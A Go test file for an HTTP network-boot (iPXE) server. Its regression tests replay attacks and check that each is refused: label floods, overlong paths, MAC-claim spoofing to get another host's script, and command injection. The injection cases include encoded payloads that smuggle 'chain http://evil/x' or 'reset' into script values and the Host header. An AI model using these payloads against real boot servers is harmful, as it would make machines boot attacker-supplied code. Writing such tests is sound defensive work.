package httpboot

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/pxeperf/pxeperf/configs"
	"github.com/pxeperf/pxeperf/event"
	"github.com/pxeperf/pxeperf/hosts"
)

// A lab network is a hostile network (issue 9): these tests play the
// attacks a reviewer ran against the boot port, and check each is bounded
// or refused.

// getClose sends one GET on a connection of its own (closed after, so a loop
// stays under the per-client connection cap) and returns status and body.
func getClose(t *testing.T, url string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(truncate(err.Error(), 200))
	}
	req.Close = true
	resp, err := rawClient().Do(req)
	if err != nil {
		t.Fatal(truncate(err.Error(), 200))
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestLabelFlood: GETs (even 404s) with thousands of ?label. pairs used to
// put every pair on a record (1000 x 5000 labels: 838 MB RSS, 60 MB of
// journal). Now such a request is refused with 400, its record carries no
// query labels, and one client's flood of failed fetches is recorded only
// up to its budget.
func TestLabelFlood(t *testing.T) {
	e := newTestEnv(t, envOpts{files: map[string][]byte{"kernel": []byte("k")}})
	// A stopped clock: no refill during the flood, however slow the machine.
	t0 := time.Now()
	e.srv.errBudget.now = func() time.Time { return t0 }
	var q strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&q, "&label.k%d=v", i)
	}
	flood := q.String()
	const n = 300 // > the default budget of 120 failed fetches a minute
	for i := range n {
		path := "/nope"
		if i%2 == 1 {
			path = "/kernel"
		}
		status, _ := getClose(t, e.url+path+"?x=1"+flood)
		if status != http.StatusBadRequest {
			t.Fatalf("GET %s with 5000 labels: HTTP %d, want 400", path, status)
		}
	}
	// Within bounds, labels still reach the record.
	if status, _ := getClose(t, e.url+"/kernel?label.rx_offload=off&label.run=3"); status != 200 {
		t.Fatalf("GET /kernel with 2 labels: HTTP %d", status)
	}
	deadline := time.Now().Add(5 * time.Second)
	var fetches []event.Fetch
	for time.Now().Before(deadline) {
		fetches, _ = e.rec.Snapshot()
		if len(fetches) > 0 && fetches[len(fetches)-1].File == "kernel" && fetches[len(fetches)-1].Outcome == event.OutcomeOK {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	labelBytes := 0
	for _, f := range fetches {
		for k, v := range f.Labels {
			labelBytes += len(k) + len(v)
		}
	}
	last := fetches[len(fetches)-1]
	if last.Labels["rx_offload"] != "off" || last.Labels["run"] != "3" {
		t.Errorf("labels within bounds lost: %v", last.Labels)
	}
	if len(fetches) > DefaultErrorRecordsPerMinute+1 { // the budget and the good fetch
		t.Errorf("%d failed fetches from one client put %d records; the budget is %d a minute", n, len(fetches), DefaultErrorRecordsPerMinute)
	}
	if labelBytes > 100 {
		t.Errorf("records carry %d bytes of labels; want only the 2 good ones", labelBytes)
	}
	t.Logf("%d flooding GETs: %d records, %d label bytes in all", n, len(fetches), labelBytes)
}

// TestLabelBounds: the key and value bounds, and a control character.
func TestLabelBounds(t *testing.T) {
	e := newTestEnv(t, envOpts{files: map[string][]byte{"kernel": []byte("k")}})
	for name, c := range map[string]struct {
		query string
		want  int
	}{
		"fine":              {"label.rx_offload=off", 200},
		"long key":          {"label." + strings.Repeat("k", 65) + "=v", 400},
		"long value":        {"label.k=" + strings.Repeat("v", 257), 400},
		"key with a space":  {"label.a%20b=v", 400},
		"newline in value":  {"label.k=a%0Ab", 400},
		"value with spaces": {"label.note=new%20cable", 200},
		"33 labels":         {strings.Repeat("label.k=v&", 1) + labelsN(33), 400},
	} {
		if status, body := getClose(t, e.url+"/kernel?"+c.query); status != c.want {
			t.Errorf("%s: HTTP %d, want %d: %s", name, status, c.want, body)
		}
	}
}

func labelsN(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "&label.n%d=v", i)
	}
	return b.String()
}

// TestLongPath: a path no boot file has is refused before it reaches a
// record at full length.
func TestLongPath(t *testing.T) {
	e := newTestEnv(t, envOpts{})
	status, _ := getClose(t, e.url+"/"+strings.Repeat("a", 60_000))
	if status != http.StatusRequestURITooLong {
		t.Errorf("60 kB path: HTTP %d, want 414", status)
	}
	f := e.waitFetches(t, 1)[0]
	if len(f.File)+len(f.Err) > 400 {
		t.Errorf("record of a 60 kB path holds %d bytes of name and error", len(f.File)+len(f.Err))
	}
}

const secretScript = "#!ipxe\necho {{.Hostname}} secret=hunter2\n"

// TestMACClaimRefused: a client used to rebind any MAC to its own address
// with ?mac= and receive that host's script (board-01's secrets went to
// another machine, and so did its records). A claim pxeperf cannot back is
// now refused with 403, and does not move the MAC.
func TestMACClaimRefused(t *testing.T) {
	mac := mustMAC("52:54:00:00:00:01")
	victim := netip.MustParseAddr("10.9.9.1")
	lo := netip.MustParseAddr("127.0.0.1")
	now := time.Now()
	for name, c := range map[string]struct {
		host    configs.Host
		observe []hosts.Client
	}{
		"host entry only": {host: configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}}},
		"host entry at another address": {host: configs.Host{MAC: mac, Name: "board-01", Address: configs.Addr{Addr: victim},
			Script: configs.Template{Text: secretScript}}},
		"leased to another address": {host: configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}},
			observe: []hosts.Client{{MAC: mac.HardwareAddr, Addr: victim, Seen: now}}},
		"proxyDHCP saw it long ago": {host: configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}},
			observe: []hosts.Client{{MAC: mac.HardwareAddr, Proxy: true, Seen: now.Add(-10 * time.Minute)}}},
		"address belongs to a MAC seen later": {host: configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}},
			observe: []hosts.Client{
				{MAC: mac.HardwareAddr, Proxy: true, Seen: now.Add(-30 * time.Second)},
				{MAC: mustMAC("52:54:00:00:00:02").HardwareAddr, Addr: lo, Seen: now.Add(-time.Second)}}},
	} {
		t.Run(name, func(t *testing.T) {
			e := newTestEnv(t, envOpts{hosts: []configs.Host{c.host}, observe: c.observe})
			status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
			if status != http.StatusForbidden || strings.Contains(body, "hunter2") {
				t.Fatalf("claim from 127.0.0.1: HTTP %d %q, want 403 without the script", status, body)
			}
			f := e.waitFetches(t, 1)[0]
			if f.Host == "board-01" || f.Outcome != event.OutcomeDenied {
				t.Errorf("refused claim recorded as host %q outcome %q", f.Host, f.Outcome)
			}
			if cl, ok := e.srv.opt.Hosts.ByAddr(lo); ok && cl.MAC.String() == mac.String() {
				t.Errorf("refused claim bound the MAC to 127.0.0.1")
			}
		})
	}
}

// TestMACClaimAllowed: claims pxeperf can back still work: the proxy-mode
// boot (iPXE asks for /boot.ipxe?mac=${net0/mac} right after its DHCP, which
// proxyDHCP saw), a lease, the host entry's address. A second address
// cannot claim the same proxyDHCP sighting.
func TestMACClaimAllowed(t *testing.T) {
	mac := mustMAC("52:54:00:00:00:01")
	lo := netip.MustParseAddr("127.0.0.1")
	now := time.Now()
	host := configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}}
	withAddr := host
	withAddr.Address = configs.Addr{Addr: lo}
	for name, c := range map[string]struct {
		host    configs.Host
		observe []hosts.Client
	}{
		"proxyDHCP saw it just now": {host: host, observe: []hosts.Client{{MAC: mac.HardwareAddr, Proxy: true, Seen: now.Add(-5 * time.Second)}}},
		"proxyDHCP saw it, address stale from an earlier boot": {host: host,
			observe: []hosts.Client{{MAC: mac.HardwareAddr, Addr: netip.MustParseAddr("10.9.9.1"), Proxy: true, Seen: now.Add(-5 * time.Second)}}},
		"leased to this address":        {host: host, observe: []hosts.Client{{MAC: mac.HardwareAddr, Addr: lo, Seen: now}}},
		"host entry names this address": {host: withAddr},
	} {
		t.Run(name, func(t *testing.T) {
			e := newTestEnv(t, envOpts{hosts: []configs.Host{c.host}, observe: c.observe, files: map[string][]byte{"kernel": []byte("k")}})
			status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01")
			if status != 200 || !strings.Contains(body, "board-01 secret=hunter2") {
				t.Fatalf("claim: HTTP %d %q, want the host's script", status, body)
			}
			// The image fetch that follows carries no ?mac=: the claim bound it.
			if status, _ := getClose(t, e.url+"/kernel"); status != 200 {
				t.Fatalf("kernel: HTTP %d", status)
			}
			f := e.waitFetches(t, 2)
			if f[1].Host != "board-01" {
				t.Errorf("kernel fetch put on %q, want board-01", f[1].Host)
			}
		})
	}
}

// TestMACClaimOncePerSighting: after the board claimed its MAC, another
// address cannot claim the same proxyDHCP sighting.
func TestMACClaimOncePerSighting(t *testing.T) {
	mac := mustMAC("52:54:00:00:00:01")
	host := configs.Host{MAC: mac, Name: "board-01", Script: configs.Template{Text: secretScript}}
	e := newTestEnv(t, envOpts{hosts: []configs.Host{host},
		observe: []hosts.Client{{MAC: mac.HardwareAddr, Proxy: true, Seen: time.Now()}}})
	// The board, from 127.0.0.2.
	c := &http.Client{Transport: &http.Transport{DisableCompression: true, DialContext: (&net.Dialer{
		LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}).DialContext}, Timeout: 10 * time.Second}
	resp, err := c.Get(e.url + "/boot.ipxe?mac=52:54:00:00:00:01")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("the board's claim: HTTP %d", resp.StatusCode)
	}
	// Someone else, from 127.0.0.1, within the window.
	if status, body := getClose(t, e.url+"/boot.ipxe?mac=52:54:00:00:00:01"); status != http.StatusForbidden {
		t.Errorf("second claim: HTTP %d %q, want 403", status, body)
	}
}

// TestScriptInjection: query values used to be rendered raw into scripts,
// so a newline in one added an iPXE command (an extra chain line). A value
// that a script cannot carry as it is is now refused.
func TestScriptInjection(t *testing.T) {
	tmpl := "#!ipxe\necho build {{.build}} {{.Labels.note}}\n"
	e := newTestEnv(t, envOpts{http: func() configs.HTTP { h := defaultHTTP(); h.Script = configs.Template{Text: tmpl}; return h }()})
	for _, q := range []string{
		"?build=1%0Achain%20http://evil/x&label.note=a",
		"?build=1&label.note=a%0Achain%20http://evil/x",
		"?build=$%7Bnet0/mac%7D&label.note=a",
		"?build=1%20||%20chain%20http://evil/x&label.note=a",
		"?build=1&label.note=a%3Breset",
	} {
		status, body := getClose(t, e.url+"/boot.ipxe"+q)
		if status != http.StatusBadRequest || strings.Contains(body, "\nchain") {
			t.Errorf("%s: HTTP %d, want 400:\n%s", q, status, body)
		}
	}
	status, body := getClose(t, e.url+"/boot.ipxe?build=42&label.note=rack-1")
	if status != 200 || body != "#!ipxe\necho build 42 rack-1\n" {
		t.Errorf("plain values: HTTP %d %q", status, body)
	}
}

// TestHostHeaderInjection: the Host header becomes .ServerURL in scripts
// and generated configs; one with shell characters is not taken.
func TestHostHeaderInjection(t *testing.T) {
	e := newTestEnv(t, envOpts{http: func() configs.HTTP {
		h := defaultHTTP()
		h.Script = configs.Template{Text: "#!ipxe\nchain {{.ServerURL}}/next\n"}
		return h
	}()})
	req, _ := http.NewRequest("GET", e.url+"/boot.ipxe", nil)
	req.Host = "x;reset"
	resp, err := rawClient().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if strings.Contains(string(b), "reset") {
		t.Errorf("Host header reached the script: %q", b)
	}
}
